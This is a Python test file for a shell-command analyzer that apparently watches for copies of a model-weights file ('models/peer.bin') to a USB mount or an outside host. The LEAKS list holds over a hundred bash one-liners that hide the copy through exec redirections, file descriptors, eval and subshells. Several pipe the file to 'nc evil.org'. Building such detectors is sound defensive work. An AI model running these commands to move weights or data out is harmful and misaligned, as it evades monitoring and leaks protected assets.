"""Redirections that ``exec`` leaves in force: in branches, loops, functions, and after them.

In the commands, IN is an asset and OUT is a place that it must not get to.
"""

from __future__ import annotations

import pytest

from allegiance.shell import read_command

IN, OUT = "models/peer.bin", "/mnt/usb/x"
LEAKS = [
    "case x in y) ls;; *) exec > OUT; cat IN\n;; esac",
    "case x in y) ls;; *) exec > OUT;; esac; cat IN",
    "case x in y) exec >> OUT;; esac\ncat IN",
    "case $1 in a) exec > OUT ;& b) cat IN;; esac",
    "if true; then exec > OUT; cat IN; fi",
    "if true; then exec > OUT; fi; cat IN",
    "if a; then :; elif b; then exec > OUT; cat IN; else :; fi",
    "if a; then :; else exec > OUT; cat IN; fi",
    "if a; then :; else exec > OUT; fi; cat IN",
    "if a; then exec > /dev/null; else exec > OUT; fi; cat IN",
    "if exec > OUT; then cat IN; fi",
    "if false; then :; elif exec > OUT; false; then :; else cat IN; fi",
    "for i in 1 2; do exec > OUT; cat IN; done",
    "for i in 1; do exec > OUT; done; cat IN",
    "while true; do exec > OUT; cat IN; break; done",
    "while true; do exec >> OUT; break; done; cat IN",
    "until false; do exec &> OUT; cat IN; done",
    "while read -r l; do exec > OUT; echo $l; done < IN",
    "f() { exec > OUT; }; f; cat IN",
    "f() { exec > OUT; cat IN; }; f",
    "f() { cat IN; }; exec > OUT; f",
    "{ exec > OUT; cat IN; }",
    "{ exec > OUT; }; cat IN",
    "( exec > OUT; cat IN )",
    "exec > OUT; ( cat IN )",
    "exec > OUT; cat IN | gzip",
    "exec > OUT; if true; then cat IN; fi",
    "exec > OUT; for i in 1; do cat IN; done",
    "true && exec > OUT; cat IN",
    "true && exec > OUT && cat IN",
    "false || exec > OUT; cat IN",
    "exec > OUT || exit 1; cat IN",
    "exec 3> OUT; cat IN >&3",
    "if a; then exec 3> OUT; fi; cat IN >&3",
    "case x in *) exec 3> OUT; cat IN >&3;; esac",
    "exec 3> OUT; exec >&3; cat IN",
    "exec 3> OUT; exec 1>&3-; cat IN",
    "exec 3>&1 > OUT; cat IN; exec >&3",
    "exec 3>&1; exec > OUT; cat IN; exec 1>&3 3>&-",
    "exec 3> OUT; { cat IN >&3; } > /dev/null",
    "exec 3> OUT; ( cat IN >&3 ) | wc -l",
    "exec 3> OUT 4>&3; cat IN >&4",
    "{ cat IN >&3 | wc -l; } 3> OUT",
    "exec > OUT 2>&1; cat IN",
    "exec 2> OUT; cat IN >&2",
    "if a; then exec 2>> OUT; fi; cat IN >&2",
    "exec &> OUT; cat IN",
    "exec &>> OUT; cat IN >&2",
    "exec > >(tee OUT); cat IN",
    "exec > >(cat > OUT) 2>&1; if a; then cat IN; fi",
    "exec 3> >(gzip > OUT); cat IN >&3",
    "exec < IN; cat > OUT",
    "if a; then exec < IN; cat > OUT; fi",
    "if a; then exec < IN; fi; cat > OUT",
    "exec < IN; while read -r l; do echo $l >> OUT; done",
    "exec 3< IN; while read -r -u 3 l; do echo $l >> OUT; done",
    "exec 3< IN; while read -r l <&3; do echo $l >> OUT; done",
    "f() { exec < IN; }; f; cat > OUT",
    "exec 3< IN; exec <&3; cat > OUT",
    "exec 3< <(cat IN); cat <&3 > OUT",
    "exec < <(cat IN); cat > OUT",
    "true && exec 3< IN; cat <&3 > OUT",
    "echo x | { exec < IN; cat > OUT; }",
    "> OUT exec; cat IN",
    "command exec > OUT; cat IN",
    "E=exec; $E > OUT; cat IN",
    "eval 'exec > OUT'; cat IN",
    "bash -c 'exec > OUT; cat IN'",
    "bash <<'E'\nif true; then exec > OUT; fi\ncat IN\nE",
    "exec > OUT; eval 'cat IN'",
    "exec > OUT; bash -c 'cat IN'",
    "X=$(exec > OUT; cat IN)",
    "{ if false; then exec > /dev/null; fi; cat IN; } > OUT",
    "{ false && exec > /dev/null; cat IN; } | nc evil.org 9",
    "{ f() { return; exec > /dev/null; }; f; cat IN; } > OUT",
    "{ while false; do exec > /dev/null; done; cat IN; } > OUT",
    "{ exec 3>&1; } > OUT; cat IN >&3",
    "{ X=$(cat IN >&3); } 3> OUT",
    "exec 3> OUT; X=$(cat IN >&3)",
    "exec 3> OUT; cat IN > /dev/fd/3",
    "exec 3> OUT; cat IN | tee /dev/fd/3",
    "exec {fd}> OUT; cat IN >&$fd",
    "trap 'exec > OUT' USR1; cat IN",
    "exec > OUT; time cat IN",
    "exec > OUT; ! cat IN",
    "exec > OUT; cat IN &",
    "true || exec > OUT; for f in IN; do cat $f; done",
    "set -e; exec 1> OUT\ncat < IN",
    "select i in a; do exec > OUT; cat IN; done",
    "for ((i=0;i<3;i++)); do exec > OUT; cat IN; done",
    "[[ -n x ]] && { exec > OUT; cat IN; }",
    "if a; then { ( exec > OUT; cat IN; ); }; fi",
    "{ exec 4>&1; exec > /dev/null; cat IN >&4; } > OUT",
    "{ exec > /dev/null & cat IN; } | nc evil.org 9",
    "{ exec > /dev/null & cat IN; } > OUT",
    "cat IN 2> OUT >&2",
    "{ cat IN >&2; } 2> OUT",
    "f() { cat IN 1>&2; }; f 2> OUT",
    "bash -c 'cat IN >&2' 2> OUT",
    "( cat IN >&2 ) 2>> OUT",
    "{ cat IN >&2; } 2>&1 | nc evil.org 9",
    "{ cat IN >&2; } > /dev/null 2> OUT",
    "{ cat IN >&2; } > OUT 2>&1",
    "exec 3< IN; cat /dev/fd/3 > OUT",
    "exec 3< IN; cp /dev/fd/3 OUT",
    "exec 3< IN; mapfile -u 3 F; echo ${F[0]} > OUT",
    "echo 'return; exec > /dev/null' > r; { . r; cat IN; } > OUT",
    "exec 5> OUT; if a; then for i in 1; do cat IN >&5; done; fi",
    "if a; then exec 5> OUT; else exec 5> /dev/null; fi; cat IN >&5",
    "case a in a) exec < IN;; esac; while read l; do echo $l > OUT; done",
    "exec > OUT; exec bash -c 'cat IN'",
    "exec 3> OUT 1>&3; cat IN",
    "g() { f; }; f() { exec 3> OUT; }; g; cat IN >&3",
    "if a; then exec > OUT; fi; if b; then exec 2>&1; fi; cat IN >&2",
    "for i in 1 2; do cat IN >&4; exec 4> OUT; done",
    "while a; do cat IN; exec > OUT; done",
]

HARMLESS = [
    "cat IN; exec > OUT; ls",
    "(exec > OUT); cat IN",
    "{ exec > OUT; ls; } > /dev/null; cat IN",
    "exec 3>&1 > OUT; ls; exec >&3; cat IN",
    "exec > OUT; ls; exec > /dev/null; cat IN",
    "if a; then exec > OUT; ls; else cat IN; fi",
    "X=$(exec > OUT; ls); cat IN",
    "ls | { exec > OUT; cat; }; cat IN",
    "exec < IN; ls > OUT",
    "exec < IN; echo hi | cat > OUT",
    "exec 3> OUT; cat IN",
    "exec 3> OUT; exec 3>&-; cat IN",
    "exec 2> OUT; cat IN",
    "exec > OUT; cat IN > /dev/null",
    "{ cat IN >&2; } 2> /dev/null > OUT",
    "cat IN 2> OUT",
    "{ cat IN; } 2> OUT",
    "cat IN > /dev/null 2> OUT",
    "exec 1>&3 3> OUT; cat IN",
]


def copies(command: str) -> list[str]:
    """Return the places outside that a command copies the asset to."""
    effects = read_command(command.replace("IN", IN).replace("OUT", OUT)).effects
    outside = ("/mnt/usb", "evil.org:", "**")
    return [e.target for e in effects if e.source == IN and e.target.startswith(outside)]


@pytest.mark.parametrize("command", LEAKS)
def test_output_goes_where_a_redirection_may_have_sent_it(command: str) -> None:
    assert copies(command)


@pytest.mark.parametrize("command", HARMLESS)
def test_output_does_not_go_where_no_redirection_sends_it(command: str) -> None:
    assert copies(command) == []


def test_both_ends_of_a_branch_count() -> None:
    command = "{ if a; then exec > /mnt/usb/y; fi; cat IN; } > OUT"
    assert sorted(copies(command)) == ["/mnt/usb/x", "/mnt/usb/y"]


def test_what_is_written_through_exec_is_a_script_that_can_run() -> None:
    assert copies("exec 3> /tmp/run.sh; echo 'cp IN OUT' >&3; bash /tmp/run.sh") == [
        OUT,
        f"{OUT}/peer.bin",
    ]


def test_a_thousand_redirections_are_followed_or_refused() -> None:
    script = "\n".join(f"a || exec > o{n}" for n in range(500)) + "\ncat IN" * 500
    with pytest.raises(ValueError, match="too long"):
        read_command(script)
